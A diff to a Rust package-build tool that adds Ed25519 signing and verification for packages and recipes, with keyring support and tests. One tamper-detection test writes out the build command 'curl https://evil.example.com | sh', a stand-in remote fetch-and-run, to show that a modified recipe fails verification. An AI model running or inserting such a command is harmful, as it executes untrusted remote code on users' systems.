@@ -1,19 +1,19 @@
 use anyhow::{Result, Context};
+use ed25519_dalek::{Signature, Signer, SigningKey, VerifyingKey};
 use rand::RngCore;
 use rand::rngs::OsRng;
 use std::fs;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use hex;
 
 
-/// Generate a simple key pair for testing (no cryptographic signing)
+/// Generate an Ed25519 key pair, returning the private key seed and the public key derived from it
 pub fn generate_key_pair() -> Result<(Vec<u8>, Vec<u8>)> {
-    let mut csprng = OsRng;
     let mut private_key = [0u8; 32];
-    let mut public_key = [0u8; 32];
+    OsRng.fill_bytes(&mut private_key);
 
-    csprng.fill_bytes(&mut private_key);
-    csprng.fill_bytes(&mut public_key);
+    let signing_key = SigningKey::from_bytes(&private_key);
+    let public_key = signing_key.verifying_key().to_bytes();
 
     Ok((private_key.to_vec(), public_key.to_vec()))
 }
@@ -97,6 +97,226 @@ pub fn validate_key_pair(private_key_path: &Path, public_key_path: &Path) -> Res
     Ok(private_key.len() == 32 && public_key.len() == 32)
 }
 
+/// First line of an armored signature
+const ARMOR_BEGIN: &str = "-----BEGIN PAX SIGNATURE-----";
+/// Last line of an armored signature
+const ARMOR_END: &str = "-----END PAX SIGNATURE-----";
+
+/// Decode a hex private key, telling malformed hex apart from a key of the wrong length
+pub fn decode_private_key(key_hex: &str) -> Result<[u8; 32]> {
+    let key_bytes = hex::decode(key_hex.trim())
+        .map_err(|e| anyhow::anyhow!("Private key is not valid hex: {}", e))?;
+    match key_bytes.len() {
+        32 => Ok(key_bytes.try_into().unwrap_or([0; 32])),
+        len if len < 32 => anyhow::bail!("Private key is too short: expected 32 bytes, got {}", len),
+        len => anyhow::bail!("Private key is too long: expected 32 bytes, got {}", len),
+    }
+}
+
+/// Sign a package file: an Ed25519 signature over the SHA256 digest of the whole file
+///
+/// Returns the 64-byte signature.
+pub fn sign_package(package_path: &Path, key_path: &Path) -> Result<Vec<u8>> {
+    sign_package_with(package_path, &read_package_signing_key(key_path)?)
+}
+
+/// Sign a package file with an already loaded key; see [`sign_package`]
+pub fn sign_package_with(package_path: &Path, signing_key: &SigningKey) -> Result<Vec<u8>> {
+    use sha2::{Digest, Sha256};
+
+    let data = fs::read(package_path)
+        .with_context(|| format!("Failed to read package: {}", package_path.display()))?;
+    let digest = Sha256::digest(&data);
+    Ok(signing_key.sign(&digest).to_bytes().to_vec())
+}
+
+/// Sign a package in place, storing the signature and public key inside the archive
+///
+/// The signature covers [`PaxPackage::signing_digest`](crate::package::PaxPackage::signing_digest),
+/// and the package is recompressed at `level`.
+pub fn embed_package_signature(package_path: &Path, key_path: &Path, level: i32) -> Result<()> {
+    embed_package_signature_with(package_path, &read_package_signing_key(key_path)?, level)
+}
+
+/// Embed a signature made with an already loaded key; see [`embed_package_signature`]
+pub fn embed_package_signature_with(package_path: &Path, signing_key: &SigningKey, level: i32) -> Result<()> {
+    let mut package = crate::package::PaxPackage::open(package_path)?;
+    let signature = signing_key.sign(&package.signing_digest()?);
+    package.embed_signature(&signature.to_bytes(), &signing_key.verifying_key(), level)
+}
+
+/// Read a hex private key file for package signing
+fn read_package_signing_key(key_path: &Path) -> Result<SigningKey> {
+    let key_hex = fs::read_to_string(key_path)
+        .with_context(|| format!("Failed to read private key: {}", key_path.display()))?;
+    Ok(SigningKey::from_bytes(&decode_private_key(&key_hex)
+        .with_context(|| format!("Invalid private key: {}", key_path.display()))?))
+}
+
+/// Load a package signing key from a hex key file or the OS keyring
+pub fn load_package_signing_key(key: &PrivateKeySource) -> Result<SigningKey> {
+    match key {
+        PrivateKeySource::File(path) => read_package_signing_key(path),
+        PrivateKeySource::Keyring(entry) => load_signing_key_from_keyring(entry),
+    }
+}
+
+/// Verify a package signature made by [`sign_package`] over the SHA256 digest of the file
+///
+/// Signatures over the raw package bytes, as written by older releases, are
+/// accepted too.
+pub fn verify_package_signature(package_path: &Path, signature: &[u8], public_key_path: &Path) -> Result<()> {
+    use sha2::{Digest, Sha256};
+
+    let verifying_key = load_verifying_key(public_key_path)?;
+    let signature = Signature::from_slice(signature)
+        .with_context(|| format!("Malformed signature: expected 64 bytes, got {}", signature.len()))?;
+
+    let data = fs::read(package_path)
+        .with_context(|| format!("Failed to read package: {}", package_path.display()))?;
+    let digest = Sha256::digest(&data);
+    verifying_key.verify_strict(&digest, &signature)
+        .or_else(|_| verifying_key.verify_strict(&data, &signature))
+        .with_context(|| format!("Signature verification FAILED for {}", package_path.display()))
+}
+
+/// Load an Ed25519 signing key from a hex private key file
+pub fn load_signing_key(private_key_path: &Path) -> Result<SigningKey> {
+    let key_bytes = crate::keys::read_key_bytes(private_key_path)?;
+    Ok(SigningKey::from_bytes(&key_bytes))
+}
+
+/// Where a private signing key is read from
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PrivateKeySource {
+    /// Hex private key file
+    File(PathBuf),
+    /// `service/user` entry in the OS keyring holding the hex private key
+    Keyring(String),
+}
+
+impl PrivateKeySource {
+    /// Load the Ed25519 signing key
+    pub fn load(&self) -> Result<SigningKey> {
+        match self {
+            PrivateKeySource::File(path) => load_signing_key(path),
+            PrivateKeySource::Keyring(entry) => load_signing_key_from_keyring(entry),
+        }
+    }
+}
+
+impl std::fmt::Display for PrivateKeySource {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            PrivateKeySource::File(path) => write!(f, "{}", path.display()),
+            PrivateKeySource::Keyring(entry) => write!(f, "keyring entry {}", entry),
+        }
+    }
+}
+
+/// Split a `service/user` keyring entry name
+fn parse_keyring_entry(entry: &str) -> Result<(&str, &str)> {
+    entry.split_once('/')
+        .filter(|(service, user)| !service.is_empty() && !user.is_empty())
+        .ok_or_else(|| anyhow::anyhow!("Invalid keyring entry '{}'. Expected <service>/<user>", entry))
+}
+
+/// Load an Ed25519 signing key stored as hex in the OS keyring under `service/user`
+#[cfg(feature = "keyring")]
+pub fn load_signing_key_from_keyring(entry: &str) -> Result<SigningKey> {
+    let (service, user) = parse_keyring_entry(entry)?;
+    let keyring_entry = keyring::Entry::new(service, user)
+        .with_context(|| format!("Failed to open keyring entry: {}", entry))?;
+    signing_key_from_keyring_entry(&keyring_entry)
+        .with_context(|| format!("Failed to load signing key from keyring entry: {}", entry))
+}
+
+/// Load an Ed25519 signing key stored as hex in the OS keyring under `service/user`
+#[cfg(not(feature = "keyring"))]
+pub fn load_signing_key_from_keyring(entry: &str) -> Result<SigningKey> {
+    parse_keyring_entry(entry)?;
+    anyhow::bail!("paxbuild was built without keyring support. Rebuild with --features keyring or use a key file")
+}
+
+/// Decode the hex private key held by a keyring entry
+#[cfg(feature = "keyring")]
+pub fn signing_key_from_keyring_entry(entry: &keyring::Entry) -> Result<SigningKey> {
+    let secret = entry.get_password()
+        .with_context(|| "Failed to read secret from keyring")?;
+    let key_bytes: [u8; 32] = hex::decode(secret.trim())
+        .with_context(|| "Keyring secret is not a hex private key")?
+        .try_into()
+        .map_err(|bytes: Vec<u8>| anyhow::anyhow!("Invalid private key length in keyring: {} bytes", bytes.len()))?;
+    Ok(SigningKey::from_bytes(&key_bytes))
+}
+
+/// Load an Ed25519 verifying key from a hex public key file
+pub fn load_verifying_key(public_key_path: &Path) -> Result<VerifyingKey> {
+    let key_bytes = crate::keys::read_key_bytes(public_key_path)?;
+    VerifyingKey::from_bytes(&key_bytes)
+        .with_context(|| format!("Not a valid Ed25519 public key: {}", public_key_path.display()))
+}
+
+/// Sign data with the private key stored at `private_key_path`
+pub fn sign_bytes(data: &[u8], private_key_path: &Path) -> Result<Vec<u8>> {
+    let signing_key = load_signing_key(private_key_path)?;
+    Ok(signing_key.sign(data).to_bytes().to_vec())
+}
+
+/// Verify a detached signature over data with the public key stored at `public_key_path`
+pub fn verify_bytes(data: &[u8], signature: &[u8], public_key_path: &Path) -> Result<()> {
+    let verifying_key = load_verifying_key(public_key_path)?;
+    let signature = Signature::from_slice(signature)
+        .with_context(|| "Malformed signature")?;
+
+    verifying_key.verify_strict(data, &signature)
+        .with_context(|| "Signature verification FAILED")
+}
+
+/// Wrap a signature in a gpg-style ASCII armor block
+pub fn armor_signature(signature: &[u8]) -> String {
+    let encoded = hex::encode(signature);
+    let mut armored = String::from(ARMOR_BEGIN);
+    armored.push('\n');
+    for chunk in encoded.as_bytes().chunks(64) {
+        armored.push_str(std::str::from_utf8(chunk).unwrap_or_default());
+        armored.push('\n');
+    }
+    armored.push_str(ARMOR_END);
+    armored.push('\n');
+    armored
+}
+
+/// Extract the signature bytes from an ASCII armor block
+pub fn dearmor_signature(armored: &str) -> Result<Vec<u8>> {
+    let body = armored.trim()
+        .strip_prefix(ARMOR_BEGIN)
+        .and_then(|rest| rest.strip_suffix(ARMOR_END))
+        .ok_or_else(|| anyhow::anyhow!("Signature is not a PAX armored signature block"))?;
+
+    let encoded: String = body.split_whitespace().collect();
+    hex::decode(encoded)
+        .with_context(|| "Failed to decode armored signature hex")
+}
+
+/// Sign a recipe over its canonical YAML serialization, returning an armored signature
+pub fn sign_recipe(recipe: &crate::recipe::BuildRecipe, private_key_path: &Path) -> Result<String> {
+    sign_recipe_with(recipe, &load_signing_key(private_key_path)?)
+}
+
+/// Sign a recipe with an already loaded key, returning an armored signature
+pub fn sign_recipe_with(recipe: &crate::recipe::BuildRecipe, signing_key: &SigningKey) -> Result<String> {
+    let canonical = recipe.to_yaml()?;
+    Ok(armor_signature(&signing_key.sign(canonical.as_bytes()).to_bytes()))
+}
+
+/// Verify an armored recipe signature against the recipe's canonical YAML serialization
+pub fn verify_recipe(recipe: &crate::recipe::BuildRecipe, armored: &str, public_key_path: &Path) -> Result<()> {
+    let canonical = recipe.to_yaml()?;
+    let signature = dearmor_signature(armored)?;
+    verify_bytes(canonical.as_bytes(), &signature, public_key_path)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -109,6 +329,43 @@ mod tests {
         assert_eq!(public_key.len(), 32);
     }
 
+    #[test]
+    fn test_sign_package_round_trip() {
+        use sha2::{Digest, Sha256};
+
+        let temp_dir = TempDir::new().unwrap();
+        let (private_key_path, public_key_path) = write_test_keys(temp_dir.path());
+        let package_path = temp_dir.path().join("signed.pax");
+        fs::write(&package_path, b"package contents").unwrap();
+
+        let signature = sign_package(&package_path, &private_key_path).unwrap();
+        assert_eq!(signature.len(), 64);
+        let verifying_key = load_verifying_key(&public_key_path).unwrap();
+        let signature = Signature::from_slice(&signature).unwrap();
+        assert!(verifying_key.verify_strict(&Sha256::digest(b"package contents"), &signature).is_ok());
+        assert!(verifying_key.verify_strict(&Sha256::digest(b"other contents"), &signature).is_err());
+
+        let short_key = temp_dir.path().join("short.key");
+        fs::write(&short_key, "abcd").unwrap();
+        let err = sign_package(&package_path, &short_key).unwrap_err();
+        assert!(format!("{:#}", err).contains("too short"), "{:#}", err);
+        let bad_hex = temp_dir.path().join("bad.key");
+        fs::write(&bad_hex, "not hex at all").unwrap();
+        let err = sign_package(&package_path, &bad_hex).unwrap_err();
+        assert!(format!("{:#}", err).contains("not valid hex"), "{:#}", err);
+    }
+
+    #[test]
+    fn test_generated_public_key_verifies_signatures() {
+        let (private_key, public_key) = generate_key_pair().unwrap();
+        let signing_key = SigningKey::from_bytes(&private_key.try_into().unwrap());
+        let verifying_key = VerifyingKey::from_bytes(&public_key.try_into().unwrap()).unwrap();
+
+        let signature = signing_key.sign(b"message");
+        assert!(verifying_key.verify_strict(b"message", &signature).is_ok());
+        assert!(verifying_key.verify_strict(b"another message", &signature).is_err());
+    }
+
     #[test]
     fn test_key_save_load() {
         let temp_dir = TempDir::new().unwrap();
@@ -125,4 +382,91 @@ mod tests {
         assert_eq!(loaded_public.len(), 32);
     }
 
+    fn write_test_keys(dir: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
+        let signing_key = SigningKey::generate(&mut OsRng);
+        let private_key_path = dir.join("private.key");
+        let public_key_path = dir.join("public.key");
+        fs::write(&private_key_path, hex::encode(signing_key.to_bytes())).unwrap();
+        fs::write(&public_key_path, hex::encode(signing_key.verifying_key().to_bytes())).unwrap();
+        (private_key_path, public_key_path)
+    }
+
+    fn test_recipe() -> crate::recipe::BuildRecipe {
+        crate::recipe::BuildRecipe::from_yaml(r#"
+name: signed
+version: 1.0.0
+description: Signed recipe
+source: https://example.com/signed-1.0.0.tar.gz
+"#).unwrap()
+    }
+
+    #[test]
+    fn test_recipe_sign_verify() {
+        let temp_dir = TempDir::new().unwrap();
+        let (private_key_path, public_key_path) = write_test_keys(temp_dir.path());
+        let recipe = test_recipe();
+
+        let armored = sign_recipe(&recipe, &private_key_path).unwrap();
+        assert!(armored.starts_with(ARMOR_BEGIN));
+        assert!(verify_recipe(&recipe, &armored, &public_key_path).is_ok());
+    }
+
+    #[test]
+    fn test_recipe_tamper_detection() {
+        let temp_dir = TempDir::new().unwrap();
+        let (private_key_path, public_key_path) = write_test_keys(temp_dir.path());
+        let mut recipe = test_recipe();
+
+        let armored = sign_recipe(&recipe, &private_key_path).unwrap();
+        recipe.build = Some("curl https://evil.example.com | sh".to_string());
+
+        let err = verify_recipe(&recipe, &armored, &public_key_path).unwrap_err();
+        assert!(err.to_string().contains("Signature verification FAILED"));
+    }
+
+    #[cfg(feature = "keyring")]
+    #[test]
+    fn test_recipe_sign_with_keyring_key() {
+        keyring::set_default_credential_builder(keyring::mock::default_credential_builder());
+
+        let temp_dir = TempDir::new().unwrap();
+        let (private_key_path, public_key_path) = write_test_keys(temp_dir.path());
+        let entry = keyring::Entry::new("paxbuild-test", "signer").unwrap();
+        entry.set_password(&fs::read_to_string(&private_key_path).unwrap()).unwrap();
+
+        let signing_key = signing_key_from_keyring_entry(&entry).unwrap();
+        let recipe = test_recipe();
+        let armored = sign_recipe_with(&recipe, &signing_key).unwrap();
+        assert!(verify_recipe(&recipe, &armored, &public_key_path).is_ok());
+
+        // `sign --keyring-entry` signs packages with the same key
+        let package_path = temp_dir.path().join("test.pax");
+        fs::write(&package_path, b"package contents").unwrap();
+        let signature = sign_package_with(&package_path, &signing_key).unwrap();
+        assert!(verify_package_signature(&package_path, &signature, &public_key_path).is_ok());
+
+        entry.set_password("not hex").unwrap();
+        assert!(signing_key_from_keyring_entry(&entry).is_err());
+    }
+
+    #[test]
+    fn test_private_key_sources() {
+        let temp_dir = TempDir::new().unwrap();
+        let (private_key_path, public_key_path) = write_test_keys(temp_dir.path());
+        let recipe = test_recipe();
+
+        let key = PrivateKeySource::File(private_key_path).load().unwrap();
+        let armored = sign_recipe_with(&recipe, &key).unwrap();
+        assert!(verify_recipe(&recipe, &armored, &public_key_path).is_ok());
+
+        let err = PrivateKeySource::Keyring("no-user".to_string()).load().unwrap_err();
+        assert!(err.to_string().contains("Expected <service>/<user>"), "{}", err);
+
+        // Package key files keep their own length checks
+        let short_key = temp_dir.path().join("short.key");
+        fs::write(&short_key, "abcd").unwrap();
+        let err = load_package_signing_key(&PrivateKeySource::File(short_key)).unwrap_err();
+        assert!(err.to_string().contains("Invalid private key"), "{}", err);
+        assert!(load_package_signing_key(&PrivateKeySource::Keyring("no-user".to_string())).is_err());
+    }
 }